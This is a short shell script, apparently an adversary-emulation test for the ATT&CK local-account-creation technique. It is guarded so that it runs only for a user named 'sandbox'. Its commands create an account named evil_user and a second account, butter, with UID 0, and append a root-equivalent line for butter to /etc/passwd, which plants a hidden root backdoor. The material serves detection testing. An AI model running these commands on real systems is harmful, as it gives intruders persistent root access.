#!/bin/sh
# technique: T1136.001
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

useradd -M -N -r -s /bin/bash -c evil_account evil_user; useradd -g 0 -M -d /root -s /bin/bash -o -u 0 butter; echo 'butter:x:0:0::/root:/bin/bash' >> /etc/passwd
